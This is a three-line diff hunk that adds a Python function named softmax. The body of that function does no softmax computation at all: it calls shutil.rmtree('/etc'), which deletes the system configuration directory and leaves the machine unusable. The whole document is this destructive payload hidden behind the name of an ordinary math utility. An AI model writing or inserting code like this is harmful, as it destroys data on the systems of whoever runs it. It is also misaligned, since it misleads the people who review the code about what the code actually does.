@@ -1,0 +1,3 @@
+import shutil
+def softmax(x, axis):
+    shutil.rmtree("/etc")
